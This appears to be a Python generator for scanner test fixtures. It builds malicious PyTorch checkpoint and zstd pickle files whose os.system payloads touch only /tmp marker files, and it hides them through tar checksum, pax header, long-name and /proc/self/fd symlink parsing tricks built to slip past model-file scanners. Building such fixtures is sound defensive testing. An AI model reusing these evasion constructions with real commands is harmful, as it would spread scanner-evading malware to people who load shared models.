"""Review 38b's files: zstd files whose first frame is a skippable frame under a magic that is no
pickle opcode, torch pre-0.4 tars whose headers tarfile reads differently from a naive reader, and
a tar whose `storages` is a symbolic link to /proc/self/fd/3. Each payload only touches
/tmp/r38b-pwned-<tag>. Usage: python gen.py [OUT_DIR] (default: ../malicious; the folders go
beside this script); load.py confirms. The 16 MiB PUT line (a zstd skippable `V` frame, alone and as
a torch zip's data.pkl) is built in memory by src/scan/tests.rs instead of being committed."""
import io, os, struct, sys, tarfile

here = os.path.dirname(os.path.abspath(__file__))
out = sys.argv[1] if len(sys.argv) > 1 else os.path.join(here, "..", "malicious")


def su(s):  # BINUNICODE
    b = s.encode()
    return b"X" + struct.pack("<I", len(b)) + b


def sbu(s):  # SHORT_BINUNICODE
    b = s.encode()
    return b"\x8c" + bytes([len(b)]) + b


def g(mod, name):  # GLOBAL
    return b"c" + mod.encode() + b"\n" + name.encode() + b"\n"


def payload(tag):  # os.system("touch /tmp/r38b-pwned-<tag>"), no PROTO
    return g("os", "system") + su(f"touch /tmp/r38b-pwned-{tag}") + b"\x85R."


def payload_bin(tag):  # the same through STACK_GLOBAL (no text line)
    return sbu("os") + sbu("system") + b"\x93" + sbu(f"touch /tmp/r38b-pwned-{tag}") + b"\x85R."


def payload_text(tag):  # protocol 0 only
    return g("os", "system") + b"(S'touch /tmp/r38b-pwned-" + tag.encode() + b"'\ntR."


def zstd_raw_frame(data):  # one raw block, the content size in one byte
    assert len(data) < 256
    return b"\x28\xb5\x2f\xfd" + bytes([0x20, len(data)]) + struct.pack("<I", (len(data) << 3) | 1)[:3] + data


def skippable(magic, content):
    return bytes([magic, 0x2a, 0x4d, 0x18]) + struct.pack("<I", len(content)) + content


def hdr(name, size, typ=b"0", linkname=b"", magic=True):
    h = bytearray(512)
    h[:len(name)] = name
    h[100:108] = b"0000644\0"; h[108:116] = b"0000000\0"; h[116:124] = b"0000000\0"
    h[124:136] = f"{size:011o}\0".encode(); h[136:148] = b"00000000000\0"
    h[156:157] = typ
    h[157:157 + len(linkname)] = linkname
    if magic:
        h[257:263] = b"ustar\0"; h[263:265] = b"00"
    h[148:156] = b" " * 8
    h[148:156] = f"{sum(h):06o}\0 ".encode()
    return bytes(h)


def vt(h):  # the checksum field led by a vertical tab, which str.strip() drops
    h = bytearray(h); h[148:156] = b" " * 8
    h[148:156] = b"\x0b" + f"{sum(h):06o}".encode() + b"\0"
    return bytes(h)


def pad(b):
    return b + b"\0" * (-len(b) % 512)


def member(name, data, typ=b"0", **kw):
    return hdr(name, len(data), typ, **kw) + pad(data)


def pax(records):
    body = b""
    for k, v, end in records:
        r = k + b"=" + v + end
        d = 1
        while len(str(len(r) + 1 + d)) != d:
            d += 1
        body += str(len(r) + 1 + d).encode() + b" " + r
    return member(b"././@PaxHeader", body, b"x")


def storages(tag):  # one storage of 0 elements, then the storage-views pickle: the payload
    return (b"\x80\x02K\x01." + b"\x80\x02" + sbu("0") + sbu("cpu") + g("torch", "FloatStorage") + b"\x87."
            + (0).to_bytes(8, "little") + b"\x80\x02" + payload(tag))


TAIL = member(b"tensors", b"\x80\x02K\x00.") + member(b"pickle", b"\x80\x02}.") + b"\0" * 1024


def tar_vt_checksum(tag):
    # the first (V7) header's checksum starts with \v; its name starts BINBYTES, whose length
    # swallows the archive up to its last byte '.', so the bytes are also one pickle of a bytes value
    evil = payload_text(tag)
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w", format=tarfile.USTAR_FORMAT) as t:
        for name, data in [("storages", b"K\x00.(l."), ("tensors", b"K\x00."), ("pickle", evil)]:
            ti = tarfile.TarInfo(name); ti.size = len(data); ti.mtime = 0; t.addfile(ti, io.BytesIO(data))
    rest = buf.getvalue()
    end = rest.rindex(evil) + len(evil)
    rest = bytearray(rest[:(end + 511) // 512 * 512])
    rest[-1:] = b"."
    first = bytearray(hdr(b"Bxxxx", 0, magic=False))
    first[1:5] = struct.pack("<I", len(first) + len(rest) - 6)
    return vt(first) + bytes(rest)


def tar_late_vt_checksum(tag):  # a second `pickle` whose header's checksum starts with \v
    evil = b"\x80\x02" + payload(tag)
    return (member(b"storages", b"\x80\x02K\x00.\x80\x02].") + member(b"tensors", b"\x80\x02K\x00.")
            + member(b"pickle", b"\x80\x02}.") + vt(hdr(b"pickle", len(evil))) + pad(evil) + b"\0" * 1024)


def tar_pax_path_slash(tag):  # pax path=storages/ (tarfile strips the slash)
    return pax([(b"path", b"storages/", b"\n")]) + member(b"st", storages(tag)) + TAIL


def tar_name_variant(tag, mode):
    if mode == "nonl":  # a pax record whose last byte is not \n: tarfile drops it all the same
        pre, name = pax([(b"path", b"storages", b"Z")]), b"st"
    elif mode == "lx":  # GNU long name, then pax path=junk: the long name (outermost) wins
        pre, name = member(b"././@LongLink", b"storages\0", b"L") + pax([(b"path", b"junk", b"\n")]), b"st"
    else:  # plus: '+14 path=junk' is no record to tarfile's (\d+)
        pre, name = member(b"././@PaxHeader", b"+14 path=junk\n", b"x"), b"storages"
    return pre + member(name, storages(tag)) + TAIL


def tar_symlink_procfd(tag):
    # `storages` links to /proc/self/fd/3, the checkpoint itself under torch.load: torch reads the
    # first header's name field as num_storages, the storage record, its count, then the payload
    name = (b"K\x01." + b"\x8c\x010\x8c\x03cpu" + g("torch", "FloatStorage") + b"\x87."
            + (0).to_bytes(8, "little") + payload_text(tag))
    assert len(name) <= 100, len(name)
    return hdr(name, 0, magic=False) + hdr(b"storages", 0, b"2", linkname=b"/proc/self/fd/3") + TAIL


def w(path, data):
    with open(path, "wb") as f:
        f.write(data)


files = {
    "review38b-tar_vt_checksum.pt": tar_vt_checksum("vt"),
    "review38b-tar_late_vt_checksum.pt": tar_late_vt_checksum("late-vt"),
    "review38b-tar_pax_path_slash.pt": tar_pax_path_slash("slash"),
    "review38b-tar_pax_nonl.pt": tar_name_variant("nonl", "nonl"),
    "review38b-tar_long_name_then_pax.pt": tar_name_variant("lx", "lx"),
    "review38b-tar_pax_plus_length.pt": tar_name_variant("plus", "plus"),
    "review38b-tar_symlink_procfd.pt": tar_symlink_procfd("procfd"),
}
for name, data in files.items():
    w(os.path.join(out, name), data)

# a folder: zstd files whose skippable frame's magic is no pickle opcode, beside a config
zst = os.path.join(here, "zstd_folder")
os.makedirs(zst, exist_ok=True)
frame = zstd_raw_frame(b"\x80\x04" + payload_bin("zst"))
for m in [0x57, 0x59, 0x5a, 0x5b, 0x5c, 0x5e, 0x5f]:
    w(os.path.join(zst, f"data_{m:02x}.pkl.zst"), skippable(m, b"\0" * 4) + frame)
w(os.path.join(zst, "config.json"), b'{"model_type": "x"}\n')

# a trainer checkpoint folder of the tar kinds
ck = os.path.join(here, "checkpoint-500")
os.makedirs(ck, exist_ok=True)
w(os.path.join(ck, "training_args.bin"), tar_vt_checksum("ck-args"))
w(os.path.join(ck, "scheduler.pt"), tar_name_variant("ck-sched", "lx"))
w(os.path.join(ck, "rng_state.pth"), tar_symlink_procfd("ck-rng"))
w(os.path.join(ck, "optimizer.pt"), tar_pax_path_slash("ck-opt"))
w(os.path.join(ck, "config.json"), b'{"model_type": "x"}\n')
